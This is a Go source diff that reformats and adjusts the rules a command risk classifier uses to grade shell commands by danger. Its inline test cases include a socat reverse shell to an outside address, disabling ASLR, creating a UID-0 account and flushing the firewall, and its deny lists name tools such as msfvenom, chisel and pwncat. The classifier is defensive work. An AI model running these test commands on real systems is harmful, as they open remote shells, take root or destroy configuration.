@@ -3,48 +3,167 @@ package risk
 // systemRules are the programs that tell about the machine or change it.
 func systemRules() []rule {
 	return []rule{
-		{prog: "uname|uptime|lsb_release|sw_vers|id|who|w|last|lastb|lastlog|free|getconf|locale|runlevel|getenforce|sestatus|aa-status|finger|ionice|acpi|vmstat|mpstat|iostat|pidstat", flags: "*",
-			try: []try{{"uname -a", Reads}, {"free -m", Reads}, {"vmstat 1 5", Reads}}},
-		{prog: "hostname", flags: "-f -s -i -I -d -a -A -y --fqdn --long --short --all-ip-addresses --ip-address --domain", unclear: "-F= --file= -b", check: setsWith("the host's name"),
-			try: []try{{"hostname -f", Reads}, {"hostname newname", Unclear}}},
-		{prog: "hostnamectl|timedatectl|localectl|loginctl|resolvectl|networkctl|coredumpctl|bootctl|machinectl|portablectl|homectl", flags: "--no-pager -a --all -n= --lines=", anywhere: true,
-			sub: "status|show|list-timezones|list-locales|list-keymaps|timesync-status|list-sessions|list-users|list-seats|show-session|show-user|user-status|session-status|list|info|query|statistics|dns|domain|lldp|list-images",
-			try: []try{{"timedatectl status", Reads}, {"loginctl list-sessions", Reads}}},
-		{prog: "hostnamectl|timedatectl|localectl|resolvectl|networkctl", flags: "--no-pager", check: setsWith("the machine's settings"), try: []try{{"hostnamectl", Reads}, {"timedatectl set-time 12:00", Unclear}}},
-		{prog: "loginctl|machinectl", sub: "enable-linger|shell|login|attach|bind|import-tar|pull-tar|pull-raw", level: Danger, why: "takes power or makes programs start by themselves", marks: []Reason{Privilege}, flags: "*"},
+		{
+			prog: "uname|uptime|lsb_release|sw_vers|id|who|w|last|lastb|free|getconf|locale|runlevel|getenforce|sestatus|" +
+				"aa-status|finger|ionice|acpi|vmstat|mpstat|iostat",
+			flags: "*",
+			try: []try{
+				{"uname -a", Reads}, {"free -m", Reads}, {"vmstat 1 5", Reads},
+			},
+		},
+		{
+			prog:    "hostname",
+			flags:   "-f -s -i -I -d -a -A -y --fqdn --long --short --all-ip-addresses --ip-address --domain",
+			unclear: "-F= --file= -b", check: setsWith("the host's name"),
+			try: []try{
+				{"hostname -f", Reads}, {"hostname newname", Unclear},
+			},
+		},
+		{
+			prog: "hostnamectl|timedatectl|localectl|loginctl|resolvectl|networkctl|coredumpctl|bootctl|machinectl|portablectl|" +
+				"homectl",
+			flags: "--no-pager -a --all -n= --lines=", anywhere: true,
+			sub: "status|show|list-timezones|list-locales|list-keymaps|timesync-status|list-sessions|list-users|list-seats|" +
+				"show-session|show-user|user-status|session-status|list|info|query|statistics|dns|domain|lldp|list-images",
+			try: []try{
+				{"timedatectl status", Reads}, {"loginctl list-sessions", Reads},
+			},
+		},
+		{
+			prog: "hostnamectl|timedatectl|localectl|resolvectl|networkctl", flags: "--no-pager",
+			check: setsWith("the machine's settings"),
+			try: []try{
+				{"hostnamectl", Reads}, {"timedatectl set-time 12:00", Unclear},
+			},
+		},
+		{
+			prog: "loginctl|machinectl", sub: "enable-linger|shell|login|attach|bind|import-tar|pull-tar|pull-raw",
+			level: Danger, why: "takes power or makes programs start by themselves", marks: []Reason{Privilege},
+			flags: "*",
+		},
 		{prog: "loginctl", sub: "terminate-session|terminate-user|kill-session|kill-user", level: Danger, why: "ends sessions", flags: "*"},
-		{prog: "dmesg", flags: "-H -T -k -l= -f= -w -x -e -L -r -t -u -d -i --level= --facility= --human --ctime --follow --kernel --time-format= --since= --until= --nopager -P", unclear: "-C --clear -c --read-clear -D -E -n=",
-			most: -1, try: []try{{"dmesg -T --level=err,warn", Reads}, {"dmesg -C", Unclear}}},
-		{prog: "sysctl", flags: "-a -A -n -e -N -b -r= --all --values --names --pattern=", changes: "-w --write", unclear: "-p --load=? --system", check: checkSysctl,
-			try: []try{{"sysctl -a", Reads}, {"sysctl -n vm.swappiness", Reads}, {"sysctl -w vm.swappiness=10", Changes}, {"sysctl vm.swappiness=10", Changes}, {"sysctl -w kernel.randomize_va_space=0", Danger}}},
+		{
+			prog: "dmesg",
+			flags: "-H -T -k -l= -f= -w -x -e -L -r -t -u -d -i --level= --facility= --human --ctime --follow --kernel " +
+				"--time-format= --since= --until= --nopager -P",
+			unclear: "-C --clear -c --read-clear -D -E -n=", most: -1,
+			try: []try{
+				{"dmesg -T --level=err,warn", Reads}, {"dmesg -C", Unclear},
+			},
+		},
+		{
+			prog: "sysctl", flags: "-a -A -n -e -N -b -r= --all --values --names --pattern=", changes: "-w --write",
+			unclear: "-p --load=? --system", check: checkSysctl,
+			try: []try{
+				{"sysctl -a", Reads}, {"sysctl -n vm.swappiness", Reads}, {"sysctl -w vm.swappiness=10", Changes},
+				{"sysctl vm.swappiness=10", Changes}, {"sysctl -w kernel.randomize_va_space=0", Danger},
+			},
+		},
 		{prog: "getent", flags: "-s= -i", check: checkGetent, try: []try{{"getent hosts a", Reads}, {"getent shadow", Unclear}}},
-		{prog: "modinfo|systemd-detect-virt|systemd-cgls|systemd-cgtop|systemd-path|quota|repquota|numactl|lsirq|dmidecode", flags: "-a -t= -s= -q -n= -b -H -F= -k -l --no-pager -p --hardware --show -c -v", try: []try{{"dmidecode -t memory", Reads}, {"dmidecode --dump-bin x", Unclear}}},
-		{prog: "systemd-analyze", style: ends, flags: "--no-pager --user --system", check: firstOf("blame", "critical-chain", "time", "verify", "security", "unit-paths", "calendar", "timespan"), try: []try{{"systemd-analyze blame", Reads}}},
-		{prog: "nvidia-smi", flags: "-L -q -i= -d= -l= -s --query-gpu=? --query-compute-apps=? --format=? --list-gpus --query --id=? --display=?", try: []try{{"nvidia-smi", Reads}, {"nvidia-smi --query-gpu=name --format=csv", Reads}, {"nvidia-smi --gpu-reset", Unclear}}},
-		{prog: "rocm-smi|rocminfo|clinfo|vulkaninfo|glxinfo|inxi|neofetch|fastfetch|hostid|acpi_listen|ioreg|system_profiler", flags: "-a -b -F -x -i -l --summary --showmeminfo= --showuse --showtemp --json", try: []try{{"vulkaninfo --summary", Reads}}},
-		{prog: "update-alternatives", flags: "--list= --display= --query= --get-selections", changes: "--set= --install= --auto= --config=", danger: "--remove= --remove-all=", harm: []Reason{Destroys}},
+		{
+			prog:  "modinfo|systemd-detect-virt|systemd-cgls|systemd-cgtop|systemd-path|quota|repquota|lsirq|dmidecode",
+			flags: "-a -t= -s= -q -n= -b -H -F= -k -l --no-pager -p --hardware --show -c -v",
+			try: []try{
+				{"dmidecode -t memory", Reads}, {"dmidecode --dump-bin x", Unclear},
+			},
+		},
+		{
+			prog: "systemd-analyze", style: ends, flags: "--no-pager --user --system",
+			check: firstOf("blame", "critical-chain", "time", "verify", "security", "unit-paths", "calendar", "timespan"),
+			try: []try{
+				{"systemd-analyze blame", Reads},
+			},
+		},
+		{
+			prog:  "nvidia-smi",
+			flags: "-L -q -i= -d= -l= -s --query-gpu=? --query-compute-apps=? --format=? --list-gpus --query --id=? --display=?",
+			try: []try{
+				{"nvidia-smi", Reads}, {"nvidia-smi --query-gpu=name --format=csv", Reads}, {"nvidia-smi --gpu-reset", Unclear},
+			},
+		},
+		{
+			prog:  "rocm-smi|rocminfo|clinfo|vulkaninfo|glxinfo|inxi|neofetch|fastfetch|hostid|acpi_listen|ioreg|system_profiler",
+			flags: "-a -b -F -x -i -l --summary --showmeminfo= --showuse --showtemp --json",
+			try: []try{
+				{"vulkaninfo --summary", Reads},
+			},
+		},
+		{
+			prog: "update-alternatives", flags: "--list= --display= --query= --get-selections",
+			changes: "--set= --install= --auto= --config=", danger: "--remove= --remove-all=", harm: []Reason{Destroys},
+		},
 		{prog: "stty", flags: "-a -g --all --save", check: setsWith("the terminal"), try: []try{{"stty -a", Reads}}},
-		{prog: "nm|objdump|readelf|size|c++filt|addr2line|ldconfig", flags: "-a -C -D -d -h -H -l -n -p -r -s -S -t -T -u -x -W -e= -f -g -A -B -i -w -V", try: []try{{"readelf -h a", Reads}, {"ldconfig -p", Reads}}, check: checkLdconfig},
-		{prog: "useradd|groupadd|adduser|addgroup|chsh|chfn|usermod|gpasswd|groupmod|chage|newusers|vigr", level: Changes, why: "changes accounts", flags: "*", marks: []Reason{Privilege}, check: checkAccount,
-			try: []try{{"useradd -m bob", Changes}, {"usermod -aG docker bob", Danger}, {"adduser bob sudo", Danger}, {"useradd -o -u 0 bob", Danger}}},
+		{
+			prog:  "nm|objdump|readelf|size|c++filt|addr2line|ldconfig",
+			flags: "-a -C -D -d -h -H -l -n -p -r -s -S -t -T -u -x -W -e= -f -g -A -B -i -w -V",
+			try: []try{
+				{"readelf -h a", Reads}, {"ldconfig -p", Reads},
+			},
+			check: checkBinutils,
+		},
+		{
+			prog:  "useradd|groupadd|adduser|addgroup|chsh|chfn|usermod|gpasswd|groupmod|chage|newusers|vigr",
+			level: Changes, why: "changes accounts", flags: "*", marks: []Reason{Privilege}, check: checkAccount,
+			try: []try{
+				{"useradd -m bob", Changes}, {"usermod -aG docker bob", Danger}, {"adduser bob sudo", Danger},
+				{"useradd -o -u 0 bob", Danger},
+			},
+		},
 		{prog: "userdel|groupdel|deluser|delgroup", level: Danger, why: "deletes accounts", marks: []Reason{Destroys, Privilege}, flags: "*"},
-		{prog: "insmod|modprobe|rmmod|kexec|depmod|update-initramfs|dracut|grub-install|update-grub|grub2-mkconfig|efibootmgr", level: Danger, why: "changes what the kernel runs", marks: []Reason{Privilege}, flags: "*"},
-		{prog: "hwclock|ntpdate|chronyc|chvt|setterm|loadkeys|localedef|update-ca-certificates|update-locale|dpkg-reconfigure", level: Unclear, why: "changes the machine's settings"},
+		{
+			prog:  "insmod|modprobe|rmmod|kexec|depmod|update-initramfs|dracut|grub-install|update-grub|grub2-mkconfig|efibootmgr",
+			level: Danger, why: "changes what the kernel runs", marks: []Reason{Privilege}, flags: "*",
+		},
+		{
+			prog:  "hwclock|ntpdate|chronyc|chvt|setterm|loadkeys|localedef|update-ca-certificates|update-locale|dpkg-reconfigure",
+			level: Unclear, why: "changes the machine's settings",
+		},
 	}
 }
 
 // powerRules are the programs that take or give power, or end the machine.
 func powerRules() []rule {
 	return []rule{
-		{prog: "su|runuser|sudoedit|vipw|passwd|chpasswd|setcap|setenforce|chroot|nsenter|unshare|pivot_root|setpriv|capsh|newgrp|sg|semodule|setsebool|pam-auth-update|pwconv|ssh-copy-id|at|batch|polkit-agent-helper-1|aa-disable|aa-complain|aa-teardown|login|dzdo|ksu|keyctl|authselect|mokutil|mshta|wscript|cscript|regsvr32|rundll32|certutil|bitsadmin",
+		{
+			prog: "su|runuser|sudoedit|vipw|passwd|chpasswd|setcap|setenforce|chroot|nsenter|unshare|pivot_root|setpriv|capsh|" +
+				"newgrp|sg|semodule|setsebool|pam-auth-update|pwconv|ssh-copy-id|at|batch|polkit-agent-helper-1|aa-disable|" +
+				"aa-complain|aa-teardown|login|dzdo|ksu|keyctl|authselect|mokutil|mshta|wscript|cscript|regsvr32|rundll32|" +
+				"certutil|bitsadmin",
 			level: Danger, why: "takes or gives power", marks: []Reason{Privilege}, flags: "*", inert: true,
-			try: []try{{"su -", Danger}, {"passwd root", Danger}, {"setcap cap_setuid+ep x", Danger}, {"nsenter -t 1 -m sh", Danger}, {"at now -f /tmp/x", Danger}}},
+			try: []try{
+				{"su -", Danger}, {"passwd root", Danger}, {"setcap cap_setuid+ep x", Danger}, {"nsenter -t 1 -m sh", Danger},
+				{"at now -f /tmp/x", Danger},
+			},
+		},
 		{prog: "visudo", flags: "-c -f= -q -s", check: checkVisudo, try: []try{{"visudo", Danger}, {"visudo -c", Reads}}},
-		{prog: "logrotate", flags: "-d -v --debug --verbose", unclear: "-f -m= -s= -l=", check: needs("-d", "--debug"), try: []try{{"logrotate -d /etc/logrotate.conf", Reads}, {"logrotate /x", Unclear}}},
-		{prog: "shutdown|reboot|poweroff|halt|telinit|init", level: Danger, why: "takes the machine down", marks: []Reason{Destroys}, flags: "*", try: []try{{"shutdown -h now", Danger}, {"reboot", Danger}}},
-		{prog: "uvx|npx|bunx|pnpx|pipx|msfconsole|msfvenom|chisel|ligolo|pwncat|rlogin|rsh|nix-shell|sshuttle", level: Danger, why: "runs or lets in foreign code", marks: []Reason{RemoteCode, Network}, flags: "*", inert: true,
-			try: []try{{"uvx evil-tool", Danger}, {"npx x", Danger}}},
-		{prog: "ngrok|cloudflared|bore|localtunnel|lt|socat|frpc|tailscale", level: Danger, why: "opens a way in or out", marks: []Reason{RemoteCode, Exfiltrates, Network}, flags: "*", inert: true, try: []try{{"socat exec:'bash -li',pty tcp:203.0.113.1:4444", Danger}}},
+		{
+			prog: "logrotate", flags: "-d -v --debug --verbose", unclear: "-f -m= -s= -l=", check: needs("-d", "--debug"),
+			try: []try{
+				{"logrotate -d /etc/logrotate.conf", Reads}, {"logrotate /x", Unclear},
+			},
+		},
+		{
+			prog: "shutdown|reboot|poweroff|halt|telinit|init", level: Danger, why: "takes the machine down",
+			marks: []Reason{Destroys}, flags: "*",
+			try: []try{
+				{"shutdown -h now", Danger}, {"reboot", Danger},
+			},
+		},
+		{
+			prog:  "uvx|npx|bunx|pnpx|pipx|msfconsole|msfvenom|chisel|ligolo|pwncat|rlogin|rsh|nix-shell|sshuttle",
+			level: Danger, why: "runs or lets in foreign code", marks: []Reason{RemoteCode, Network}, flags: "*",
+			inert: true,
+			try: []try{
+				{"uvx evil-tool", Danger}, {"npx x", Danger},
+			},
+		},
+		{
+			prog: "ngrok|cloudflared|bore|localtunnel|lt|socat|frpc|tailscale", level: Danger,
+			why: "opens a way in or out", marks: []Reason{RemoteCode, Exfiltrates, Network}, flags: "*", inert: true,
+			try: []try{
+				{"socat exec:'bash -li',pty tcp:203.0.113.1:4444", Danger},
+			},
+		},
 	}
 }
 
@@ -52,41 +171,135 @@ func powerRules() []rule {
 func serviceRules() []rule {
 	const units = "-l -a -q -r -t= -n= -o= -p= --full --all --no-pager --quiet --failed --type= --state= --lines= --output= --property= --user --system --recursive --value --plain --no-legend --reverse --show-types --legend= --no-ask-password --timestamp= --now -f --force --no-block --no-wall --runtime --wait --job-mode= --kill-who= -s= --signal= --with-dependencies"
 	return []rule{
-		{prog: "systemctl", flags: units, anywhere: true, level: Reads, try: []try{{"systemctl --failed", Reads}, {"systemctl -H evil status", Unclear}, {"systemctl frob", Unclear}}},
-		{prog: "systemctl", sub: "status|show|list-units|list-unit-files|list-timers|list-sockets|list-dependencies|list-jobs|list-machines|list-automounts|is-active|is-enabled|is-failed|is-system-running|cat|get-default|help", inert: true,
-			try: []try{{"systemctl status nginx", Reads}, {"systemctl list-units --failed", Reads}}},
+		{
+			prog: "systemctl", flags: units, anywhere: true, level: Reads,
+			try: []try{
+				{"systemctl --failed", Reads}, {"systemctl -H evil status", Unclear}, {"systemctl frob", Unclear},
+			},
+		},
+		{
+			prog: "systemctl",
+			sub: "status|show|list-units|list-unit-files|list-timers|list-sockets|list-dependencies|list-jobs|list-machines|" +
+				"list-automounts|is-active|is-enabled|is-failed|is-system-running|cat|get-default|help",
+			inert: true,
+			try: []try{
+				{"systemctl status nginx", Reads}, {"systemctl list-units --failed", Reads},
+			},
+		},
 		{prog: "systemctl", sub: "show-environment", level: Unclear, why: "prints variables", marks: []Reason{Secret}},
-		{prog: "systemctl", sub: "start|restart|reload|try-restart|reload-or-restart|enable|reenable|unmask|daemon-reload|daemon-reexec|reset-failed|preset|set-property|condrestart|thaw|freeze|clean|revert|add-wants", level: Changes, why: "changes a service",
-			check: checkUserUnit, try: []try{{"systemctl restart nginx", Changes}, {"systemctl --user enable --now evil.service", Danger}, {"systemctl --user restart x", Changes}, {"systemctl enable ./evil.service", Danger}}},
-		{prog: "systemctl", sub: "stop|disable|mask|kill|isolate|poweroff|reboot|halt|suspend|hibernate|kexec|rescue|emergency|switch-root|set-default|soft-reboot|exit|cancel", level: Danger, why: "takes a service or the machine down", marks: []Reason{Destroys},
-			inert: true, try: []try{{"systemctl stop sshd", Danger}}},
+		{
+			prog: "systemctl",
+			sub: "start|restart|reload|try-restart|reload-or-restart|enable|reenable|unmask|daemon-reload|daemon-reexec|" +
+				"reset-failed|preset|set-property|condrestart|thaw|freeze|clean|revert|add-wants",
+			level: Changes, why: "changes a service", check: checkUserUnit,
+			try: []try{
+				{"systemctl restart nginx", Changes}, {"systemctl --user enable --now evil.service", Danger},
+				{"systemctl --user restart x", Changes}, {"systemctl enable ./evil.service", Danger},
+			},
+		},
+		{
+			prog: "systemctl",
+			sub: "stop|disable|mask|kill|isolate|poweroff|reboot|halt|suspend|hibernate|kexec|rescue|emergency|switch-root|" +
+				"set-default|soft-reboot|exit|cancel",
+			level: Danger, why: "takes a service or the machine down", marks: []Reason{Destroys}, inert: true,
+			try: []try{
+				{"systemctl stop sshd", Danger},
+			},
+		},
 		{prog: "systemctl", sub: "link", level: Danger, why: "adds a unit from anywhere", marks: []Reason{Privilege}},
-		{prog: "systemctl", sub: "edit|set-environment|unset-environment|import-environment", level: Unclear, why: "opens an editor or changes what services get"},
-		{prog: "journalctl", flags: "-u= -b=? -k -f -e -x -r -n=? -o= -p= -S= -U= -t= -q -a -g= -F= -N --unit= --user-unit= --boot=? --since= --until= --priority= --no-pager --output= --lines=? --follow --reverse --dmesg --grep= --identifier= --disk-usage --list-boots --user --system --utc --catalog --no-hostname --case-sensitive=? --all --quiet --facility= -M= --header --fields --show-cursor -c= --cursor= --no-tail --no-full -l --full --pager-end -D= --directory= --file= -m --merge",
-			danger: "--vacuum-size= --vacuum-time= --vacuum-files=", unclear: "--rotate --flush --relinquish-var --setup-keys --update-catalog --sync --cursor-file= --smart-relinquish-var",
-			try: []try{{"journalctl -xeu nginx --since '1 hour ago'", Reads}, {"journalctl -u sshd -n 50 --no-pager", Reads}, {"journalctl --vacuum-size=1M", Danger}, {"journalctl --vac=1M", Unclear}}},
-		{prog: "service|rc-service|invoke-rc.d|initctl|sv|supervisorctl|launchctl|pm2|monit", style: plain, check: checkService, try: []try{{"service nginx status", Reads}, {"service --status-all", Reads}, {"service nginx restart", Changes}, {"service nginx stop", Danger}}},
+		{
+			prog: "systemctl", sub: "edit|set-environment|unset-environment|import-environment", level: Unclear,
+			why: "opens an editor or changes what services get",
+		},
+		{
+			prog: "journalctl",
+			flags: "-u= -b=? -k -f -e -x -r -n=? -o= -p= -S= -U= -t= -q -a -g= -F= -N --unit= --user-unit= --boot=? --since= " +
+				"--until= --priority= --no-pager --output= --lines=? --follow --reverse --dmesg --grep= --identifier= " +
+				"--disk-usage --list-boots --user --system --utc --catalog --no-hostname --case-sensitive=? --all --quiet " +
+				"--facility= -M= --header --fields --show-cursor -c= --cursor= --no-tail --no-full -l --full --pager-end -D= " +
+				"--directory= --file= -m --merge",
+			danger:  "--vacuum-size= --vacuum-time= --vacuum-files=",
+			unclear: "--rotate --flush --relinquish-var --setup-keys --update-catalog --sync --cursor-file= --smart-relinquish-var",
+			try: []try{
+				{"journalctl -xeu nginx --since '1 hour ago'", Reads}, {"journalctl -u sshd -n 50 --no-pager", Reads},
+				{"journalctl --vacuum-size=1M", Danger}, {"journalctl --vac=1M", Unclear},
+			},
+		},
+		{
+			prog: "service|rc-service|invoke-rc.d|initctl|sv|supervisorctl|launchctl|pm2|monit", style: plain,
+			check: checkService,
+			try: []try{
+				{"service nginx status", Reads}, {"service --status-all", Reads}, {"service nginx restart", Changes},
+				{"service nginx stop", Danger},
+			},
+		},
 		{prog: "update-rc.d|chkconfig|rc-update", level: Changes, why: "changes what starts with the machine", flags: "*"},
-		{prog: "crontab", flags: "-l -u=", check: checkCrontab, unclear: "-e", danger: "-r", try: []try{{"crontab -l", Reads}, {"crontab -r", Danger}, {"crontab f", Danger}, {"crontab -u bob -l", Reads}}},
-		{prog: "atq|systemd-escape|ausearch|aureport|faillog|pwck", flags: "-k= -m= -ts= -te= -i -l -a -u -f -r"},
+		{
+			prog: "crontab", flags: "-l -u=", check: checkCrontab, unclear: "-e", danger: "-r",
+			try: []try{
+				{"crontab -l", Reads}, {"crontab -r", Danger}, {"crontab f", Danger}, {"crontab -u bob -l", Reads},
+			},
+		},
+		{prog: "atq|systemd-escape|ausearch|aureport", flags: "-k= -m= -ts= -te= -i -l -a -u -f -r"},
 		{prog: "atrm", level: Danger, why: "deletes jobs", flags: "*"},
-		{prog: "nginx", flags: "-t -v -V -q", unclear: "-T -g= -c= -p=", changes: "-s=", check: needs("-t", "-v", "-V", "-s"), try: []try{{"nginx -t", Reads}, {"nginx -s reload", Changes}, {"nginx", Unclear}}},
-		{prog: "apachectl|apache2ctl|httpd|apache2", flags: "-t -S -v -V -M -l", check: checkApache, try: []try{{"apachectl configtest", Reads}, {"apachectl -S", Reads}, {"apachectl graceful", Changes}}},
+		{
+			prog: "nginx", flags: "-t -v -V -q", unclear: "-T -g= -c= -p=", changes: "-s=",
+			check: needs("-t", "-v", "-V", "-s"),
+			try: []try{
+				{"nginx -t", Reads}, {"nginx -s reload", Changes}, {"nginx", Unclear},
+			},
+		},
+		{
+			prog: "apachectl|apache2ctl|httpd|apache2", flags: "-t -S -v -V -M -l", check: checkApache,
+			try: []try{
+				{"apachectl configtest", Reads}, {"apachectl -S", Reads}, {"apachectl graceful", Changes},
+			},
+		},
 		{prog: "ufw", sub: "status|version", flags: "", style: gnu, try: []try{{"ufw status verbose", Reads}}},
-		{prog: "ufw", sub: "allow|deny|limit|reject|enable|reload|route|insert|logging|default|app", level: Changes, why: "changes the firewall", flags: "*", marks: []Reason{Privilege}},
+		{
+			prog: "ufw", sub: "allow|deny|limit|reject|enable|reload|route|insert|logging|default|app", level: Changes,
+			why: "changes the firewall", flags: "*", marks: []Reason{Privilege},
+		},
 		{prog: "ufw", sub: "disable|reset|delete", level: Danger, why: "takes the firewall away", flags: "*", marks: []Reason{Privilege, Destroys}},
-		{prog: "firewall-cmd", flags: "--state --list-all --list-ports --list-services --get-zones --get-active-zones --get-default-zone --zone= --list-all-zones --permanent --get-services",
-			changes: "--add-port= --add-service= --reload --add-rich-rule= --add-source= --set-default-zone=", danger: "--remove-port= --remove-service= --panic-on --complete-reload --panic-off", harm: []Reason{Destroys, Privilege}},
-		{prog: "iptables|ip6tables|iptables-legacy|iptables-nft|ebtables|arptables", flags: "-L=? -S=? -n -v -t= -x --line-numbers --list=? --list-rules=? --numeric --verbose --table=", danger: "-F -X -P= -D= -Z --flush --delete= --policy= --delete-chain",
-			changes: "-A= -I= -N= -R= -p= -s= -d= -j= -m= -i= -o= --dport= --sport= --append= --insert= --state= --ctstate= --to-destination= --to-source= --comment= -C=", harm: []Reason{Destroys, Privilege}, check: needs("-L", "-S", "--list", "--list-rules", "-A", "-I", "-N", "-R", "-D", "-F", "-X", "-P", "-Z", "-C"),
-			try: []try{{"iptables -L -n -v", Reads}, {"iptables -nvL INPUT", Reads}, {"iptables -F", Danger}, {"iptables -A INPUT -p tcp --dport 22 -j ACCEPT", Changes}}},
+		{
+			prog: "firewall-cmd",
+			flags: "--state --list-all --list-ports --list-services --get-zones --get-active-zones --get-default-zone --zone= " +
+				"--list-all-zones --permanent --get-services",
+			changes: "--add-port= --add-service= --reload --add-rich-rule= --add-source= --set-default-zone=",
+			danger:  "--remove-port= --remove-service= --panic-on --complete-reload --panic-off",
+			harm:    []Reason{Destroys, Privilege},
+		},
+		{
+			prog:   "iptables|ip6tables|iptables-legacy|iptables-nft|ebtables|arptables",
+			flags:  "-L=? -S=? -n -v -t= -x --line-numbers --list=? --list-rules=? --numeric --verbose --table=",
+			danger: "-F -X -P= -D= -Z --flush --delete= --policy= --delete-chain",
+			changes: "-A= -I= -N= -R= -p= -s= -d= -j= -m= -i= -o= --dport= --sport= --append= --insert= --state= --ctstate= " +
+				"--to-destination= --to-source= --comment= -C=",
+			harm:  []Reason{Destroys, Privilege},
+			check: needs("-L", "-S", "--list", "--list-rules", "-A", "-I", "-N", "-R", "-D", "-F", "-X", "-P", "-Z", "-C"),
+			try: []try{
+				{"iptables -L -n -v", Reads}, {"iptables -nvL INPUT", Reads}, {"iptables -F", Danger},
+				{"iptables -A INPUT -p tcp --dport 22 -j ACCEPT", Changes},
+			},
+		},
 		{prog: "iptables-save", flags: "-t= -c", changes: "-f="},
 		{prog: "iptables-restore", level: Danger, why: "replaces the firewall", flags: "*", marks: []Reason{Destroys, Privilege}},
-		{prog: "nft", style: gnu, flags: "-a -n -nn -j -s", check: firstOf("list"), try: []try{{"nft list ruleset", Reads}, {"nft flush ruleset", Danger}}},
+		{
+			prog: "nft", style: gnu, flags: "-a -n -nn -j -s", check: checkNft,
+			try: []try{
+				{"nft list ruleset", Reads}, {"nft list ruleset \\; flush ruleset", Danger}, {"nft flush ruleset", Danger},
+			},
+		},
 		{prog: "fail2ban-client", style: ends, check: firstOf("status", "ping", "version", "banned")},
+		{prog: "numactl", flags: "-H -s --hardware --show", most: -1, try: []try{{"numactl -H", Reads}, {"numactl ls", Unclear}}},
 		{prog: "auditctl", flags: "-l -s", danger: "-D -e=", harm: []Reason{Privilege}},
-		{prog: "tmux", sub: "ls|list-sessions|list-windows|list-panes", flags: "-a -F= -t= -s", try: []try{{"tmux ls", Reads}}},
-		{prog: "sshd|named-checkconf|named-checkzone|haproxy|varnishd|postconf|dovecot|squid", flags: "-t -T -c -C -n", check: needs("-t", "-T", "-c", "-n", "-C"), try: []try{{"sshd -t", Reads}, {"sshd", Unclear}}},
+		{prog: "tmux", sub: "ls|list-sessions|list-windows|list-panes", flags: "-a -t= -s", try: []try{{"tmux ls", Reads}}},
+		{
+			prog: "sshd", flags: "-t -T", check: needs("-t", "-T"),
+			try: []try{
+				{"sshd -t", Reads}, {"sshd", Unclear},
+			},
+		},
 	}
 }
 
@@ -95,9 +308,32 @@ func processRules() []rule {
 	return []rule{
 		{prog: "ps", style: plain, inert: true, check: checkPs, try: []try{{"ps aux --sort=-%mem", Reads}, {"ps -ef", Reads}, {"ps auxe", Unclear}}},
 		{prog: "pgrep|pidof|pstree|pmap|pwdx|pidwait|prtstat|lsfd|procs", flags: "*", inert: true, try: []try{{"pgrep -fa nginx", Reads}}},
-		{prog: "top|htop|btop|atop|iotop|iftop|nethogs|glances|slabtop|dstat|nload|bmon", flags: "-b -n= -d= -p= -u= -o= -H -c -i= -1 -a -k -P -t -q -l= -s= -C -m", most: -1, try: []try{{"top -bn1", Reads}, {"top -b -n 1 -o %MEM", Reads}, {"atop -w f", Unclear}}},
-		{prog: "lsof", flags: "-i=? -n -P -p= -u= -c= -t -a -l -s=? -U -w -F=? -d= -R -r=? -g= -N -T=? -X +D +L1 -L", unclear: "-D= -k= -m= -A=", try: []try{{"lsof -i :8080", Reads}, {"lsof -nP -iTCP -sTCP:LISTEN", Reads}}},
-		{prog: "fuser", flags: "-v -m -u -a -n= -4 -6", danger: "-k --kill", harm: []Reason{Destroys}, try: []try{{"fuser -v 80/tcp", Reads}, {"fuser -k 80/tcp", Danger}}},
-		{prog: "kill|pkill|killall|renice|skill|snice|xkill|tskill", style: plain, inert: true, check: checkKill, try: []try{{"kill -l", Reads}, {"kill 12", Changes}, {"kill -9 12", Changes}, {"pkill -f gunicorn", Changes}}},
+		{
+			prog:  "top|htop|btop|iotop|iftop|nethogs|slabtop|nload",
+			flags: "-b -n= -d= -p= -u= -o= -H -c -i= -1 -a -k -P -t -q -l= -s= -C -m", most: -1,
+			try: []try{
+				{"top -bn1", Reads}, {"top -b -n 1 -o %MEM", Reads}, {"atop -w f", Unclear},
+			},
+		},
+		{
+			prog:    "lsof",
+			flags:   "-i=? -n -P -p= -u= -c= -t -a -l -s=? -U -w -F=? -d= -R -r=? -g= -N -T=? -X +D +L1 -L",
+			unclear: "-D= -k= -m= -A=",
+			try: []try{
+				{"lsof -i :8080", Reads}, {"lsof -nP -iTCP -sTCP:LISTEN", Reads},
+			},
+		},
+		{
+			prog: "fuser", flags: "-v -m -u -a -n= -4 -6", danger: "-k --kill", harm: []Reason{Destroys},
+			try: []try{
+				{"fuser -v 80/tcp", Reads}, {"fuser -k 80/tcp", Danger},
+			},
+		},
+		{
+			prog: "kill|pkill|killall|renice|skill|snice|xkill|tskill", style: plain, inert: true, check: checkKill,
+			try: []try{
+				{"kill -l", Reads}, {"kill 12", Changes}, {"kill -9 12", Changes}, {"pkill -f gunicorn", Changes},
+			},
+		},
 	}
 }
